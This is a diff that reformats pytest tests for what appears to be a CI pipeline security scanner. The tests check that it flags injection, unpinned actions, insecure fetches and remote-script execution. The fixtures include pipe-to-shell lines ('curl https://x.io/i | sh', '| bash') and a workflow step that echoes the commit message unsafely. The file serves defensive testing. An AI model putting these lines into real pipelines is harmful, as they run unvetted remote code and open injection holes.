@@ -37,8 +37,15 @@ def test_check_blocks_on_new_injection_and_marks_base_findings_existing(
     git_repo.create_tag("base")
     code, report = _check(root, capsys=capsys)
     assert code == 0 and report["verdict"] == "pass"  # insecure-fetch is medium
-    commit_files(git_repo, {".github/workflows/ci.yml": "# moved down\n" + OLD + (
-        "      - run: echo \"${{ github.event.head_commit.message }}\"\n")}, "ci: print message")
+    commit_files(
+        git_repo,
+        {
+            ".github/workflows/ci.yml": "# moved down\n"
+            + OLD
+            + ('      - run: echo "${{ github.event.head_commit.message }}"\n')
+        },
+        "ci: print message",
+    )
     code, report = _check(root, "--base", "base", capsys=capsys)
     assert code == 1 and report["verdict"] == "block"
     by_rule = {f["rule"]: f for f in report["findings"]}
@@ -53,10 +60,14 @@ def test_malformed_workflow_blocks_but_others_are_still_reported(
     git_repo: git.Repo, capsys: pytest.CaptureFixture[str]
 ) -> None:
     root = Path(git_repo.working_tree_dir or ".")
-    commit_files(git_repo, {
-        ".github/workflows/bad.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: [unclosed\n",
-        ".github/workflows/ok.yml": OLD,
-    }, "ci")
+    commit_files(
+        git_repo,
+        {
+            ".github/workflows/bad.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: [unclosed\n",
+            ".github/workflows/ok.yml": OLD,
+        },
+        "ci",
+    )
     code, report = _check(root, capsys=capsys)
     assert code == 1
     rules = sorted((f["rule"], f["path"]) for f in report["findings"])
@@ -79,26 +90,39 @@ def test_config_drift_from_policy(
     )
     code, report = _check(root, "--policy", str(policy), capsys=capsys)
     assert code == 0 and report["findings"] == []
-    commit_files(git_repo, {"Jenkinsfile": "node { sh 'make && curl https://x.io/i | sh' }\n"},
-                 "jenkins: more")
+    commit_files(
+        git_repo,
+        {"Jenkinsfile": "node { sh 'make && curl https://x.io/i | sh' }\n"},
+        "jenkins: more",
+    )
     code, report = _check(root, "--policy", str(policy), capsys=capsys)
     assert code == 1
-    assert {f["rule"] for f in report["findings"]} == {"pipeline/config-drift",
-                                                        "pipeline/remote-script"}
+    assert {f["rule"] for f in report["findings"]} == {
+        "pipeline/config-drift",
+        "pipeline/remote-script",
+    }
 
 
 def test_policy_can_raise_unpinned_action_severity(
     git_repo: git.Repo, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     root = Path(git_repo.working_tree_dir or ".")
-    commit_files(git_repo, {".github/workflows/ci.yml": OLD.replace(
-        f"actions/checkout@{SHA}", "third/party@v1").replace(
-        "      - run: curl -k https://internal.example/tool -o tool\n", "")}, "ci")
+    commit_files(
+        git_repo,
+        {
+            ".github/workflows/ci.yml": OLD.replace(
+                f"actions/checkout@{SHA}", "third/party@v1"
+            ).replace("      - run: curl -k https://internal.example/tool -o tool\n", "")
+        },
+        "ci",
+    )
     code, _ = _check(root, capsys=capsys)
     assert code == 0
     policy = tmp_path / "policy.yaml"
-    policy.write_text("version: 1\nname: strict\nexpires: 2099-01-01T00:00:00Z\naudits:\n"
-                      "  rules:\n    pipeline/unpinned-action: {severity: high}\n")
+    policy.write_text(
+        "version: 1\nname: strict\nexpires: 2099-01-01T00:00:00Z\naudits:\n"
+        "  rules:\n    pipeline/unpinned-action: {severity: high}\n"
+    )
     code, report = _check(root, "--policy", str(policy), capsys=capsys)
     assert code == 1
     assert [f["severity"] for f in report["findings"]] == ["high"]
@@ -108,8 +132,15 @@ def test_staged_reads_the_index_not_the_work_tree(
     git_repo: git.Repo, capsys: pytest.CaptureFixture[str]
 ) -> None:
     root = Path(git_repo.working_tree_dir or ".")
-    commit_files(git_repo, {".github/workflows/ci.yml": OLD.replace(
-        "      - run: curl -k https://internal.example/tool -o tool\n", "")}, "ci")
+    commit_files(
+        git_repo,
+        {
+            ".github/workflows/ci.yml": OLD.replace(
+                "      - run: curl -k https://internal.example/tool -o tool\n", ""
+            )
+        },
+        "ci",
+    )
     staged = OLD.replace("curl -k", "curl -fsSL https://x.io/i | bash; curl")
     (root / ".github/workflows/ci.yml").write_text(staged)
     git_repo.index.add([".github/workflows/ci.yml"])
@@ -121,8 +152,10 @@ def test_staged_reads_the_index_not_the_work_tree(
     assert {f["rule"] for f in report["findings"]} == {"pipeline/remote-script"}
     code = main(["collect", "pipeline", str(root)])
     tree = json.loads(capsys.readouterr().out)
-    assert tree["files"][0]["sha256"] == hashlib.sha256(
-        (root / ".github/workflows/ci.yml").read_bytes()).hexdigest()
+    assert (
+        tree["files"][0]["sha256"]
+        == hashlib.sha256((root / ".github/workflows/ci.yml").read_bytes()).hexdigest()
+    )
 
 
 def test_staged_outside_a_repository_is_a_usage_error(tmp_path: Path) -> None:
